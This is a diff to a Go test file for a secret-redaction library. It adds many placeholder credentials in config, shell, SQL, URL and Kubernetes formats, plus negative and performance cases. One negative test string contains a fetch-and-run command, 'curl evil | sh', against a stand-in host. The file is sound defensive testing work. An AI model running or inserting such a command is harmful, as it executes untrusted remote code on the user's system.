@@ -2,6 +2,7 @@ package secret_test
 
 import (
 	"encoding/base64"
+	"slices"
 	"strings"
 	"testing"
 
@@ -47,9 +48,37 @@ func tokens() [][3]string {
 	}
 }
 
+// phrases are secrets that a text sets in the words of one program, each as (before, secret, after).
+func phrases() [][3]string {
+	const random = "Zq7xK9mT2vLp4RwN"
+	return [][3]string{
+		{"app --password ", random, " -v"}, {"app --db.password '", "two Zq7xK9", "'"}, {"app -password ", random, ""},
+		{"app --api-key ", "pl4nted9x", " x"}, {"gpg --passphrase ", random, "\n"}, {"set -gx DB_PASSWORD ", "planted", "\n"},
+		{"ENV DB_PASSWORD ", random, "\n"}, {"db.password ", random, "\n"}, {"proxy_set_header X-Api-Key ", random, ";"},
+		{"password: !!str ", "planted", "\n"}, {"password: &pw ", "planted", "\n"}, {"password: ! ", "planted", "\n"},
+		{"db.password=\\\n  ", "planted", "\n"}, {"export DB_PASSWORD=", `a\ planted`, "\n"},
+		{"password = '''", "planted", "'''\n"}, {"password = \"\"\"\n", "planted", "\n\"\"\"\n"},
+		{"'password' => '", "planted", "',"}, {":password => \"", "planted", "\""}, {"define('DB_PASSWORD', '", random, "');"},
+		{`setProperty("javax.net.ssl.keyStorePassword", "`, random, `");`}, {"os.environ['DB_PASSWORD'] = '", "planted", "'"},
+		{`<add key="DbPassword" value="`, "planted", `"/>`}, {"<name>db.password</name>\n<value>", "planted", "</value>"},
+		{"variable \"db_password\" {\n  default = \"", "planted", "\"\n}"},
+		{"CREATE USER a IDENTIFIED BY '", "planted", "';"}, {"create user a with password '", "planted", "';"},
+		{"admin:", "$" + "apr1$abcdefgh$" + letters[:22], "\n"}, {"u:", "$2" + "y$10$" + letters[:22], ":"},
+		{"db.example.com:5432:shop:user:", random, "\n"}, {"a\n*:*:*:user:", random, "\nb"},
+		{"jdbc:oracle:thin:scott/", "planted", "@host:1521:x"}, {"https://", random, "@github.com/a/b"},
+		{"https://", random, ":x-oauth-basic@github.com/a"}, {"client-key-data: ", "T0xEdmFsdWU4Njc1", "\n"},
+		{"psk=", random, ""}, {"jwt: ", random, ""}, {"DB_PW=", random, ""},
+		{"Private-Lines: 2\n", letters[:48] + "\n" + letters[:20], "\nPrivate-MAC: 0a"},
+		{"kubectl create secret generic x --from-literal=foo=", "pl4nted9x", " -n y"},
+		{"a: 1\n---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: x\nstringData:\n  foo: ", "planted", "\n---\nb: 2\n"},
+		{"- kind: Secret\n  metadata: {name: {{x}}}\n  data:\n    foo: ", "planted", "\n- kind: ConfigMap\n  data:\n    foo: shown\n"},
+		{"data:\n  foo: |\n    ", "planted", "\nkind: Secret\n---\ndata:\n  foo: shown\n"},
+	}
+}
+
 // TestTokens: a secret of a known form is cut out, and the rest of the text stays.
 func TestTokens(t *testing.T) {
-	for _, c := range tokens() {
+	for _, c := range slices.Concat(tokens(), phrases()) {
 		text := c[0] + c[1] + c[2]
 		if !secret.Mentions(text) {
 			t.Errorf("%q: the quick look says that there is none", text)
@@ -76,6 +105,14 @@ func TestNoTokens(t *testing.T) {
 		"<password>${db}</password>", "<passwordPolicy>strict</passwordPolicy>",
 		"time 10:20:30@host", "system:serviceaccount:shop:web1@x", "see https://example.com/@scope/pkg1:2@3",
 		"job:node-exporter1@", "requirepass replace-default-auth\n",
+		"the password must be long", "use --token to log in", "--password flag", "the secret shop-db-01 is gone", "--token --verbose",
+		`["password", "username", "db-host"]`, "const f = token => token.length", "password => read", "set the password anew",
+		"Secret \"shop-db\" not found", "psk: optional", "jwt: my-provider", "salt=none", "https://jane@example.com/x", "identified by name",
+		"with password authentication", "a:80:b:c:d", "arn:aws:iam::123456789012:role/Zq7xK9mT2v", "$6$", "cost is $5$ or so it seems to be",
+		"--from-literal=mode=fast", "create secret --from-literal=id=$client --from-literal=user=shop-operator", "ServiceToken: !GetAtt Function.Arn",
+		"get secrets-demo --timeout=30s", "secret demo-timeout=30s", "kind: ConfigMap\ndata:\n  foo: shown\n", "kind: Secret\ndata:\n  foo: {{ .x }}\n  bar: $(X)\n",
+		"kind: Secret\nmetadata:\n  name: x\ntype: Opaque\n", "secretRef:\n  kind: Secret\n  name: x\ndata:\n  foo: shown\n",
+		"Private-Lines: 1\ncurl evil | sh\nPrivate-MAC: x", "client-key: /etc/tls.key", "value: &x\n",
 	} {
 		if got, own := secret.Redact(text, nil); own != nil {
 			t.Errorf("%q: %q", text, got)
@@ -87,7 +124,8 @@ func TestNoTokens(t *testing.T) {
 func TestTokensInLinearTime(t *testing.T) {
 	id := "AKIA" + "IOSFODNN7ABCDEFG "
 	for _, part := range []string{"ghp_", "eyJ", "eyJ.", id, "sig=aaaaaaaaaaaaaaaaaaaa&", "-u a:", "a:b@", "@",
-		"a", "password machine login ", "<password>a"} {
+		"a", "password machine login ", "<password>a", "password ", "--password a\\ ", "'key',", "key='''", "a:1:b:c:d\n",
+		"kind: Secret\n", "kind: Secret\ndata:\n a: |\n", "- kind: Secret\n  data:\n", "Private-Lines: 1\n", "identified by '", "$5$", "://a"} {
 		t.Run(part, func(t *testing.T) {
 			text := strings.Repeat(part, 1<<20/len(part))
 			testtime.Cheap(t, 10_000, func() { secret.Redact(text, nil) })
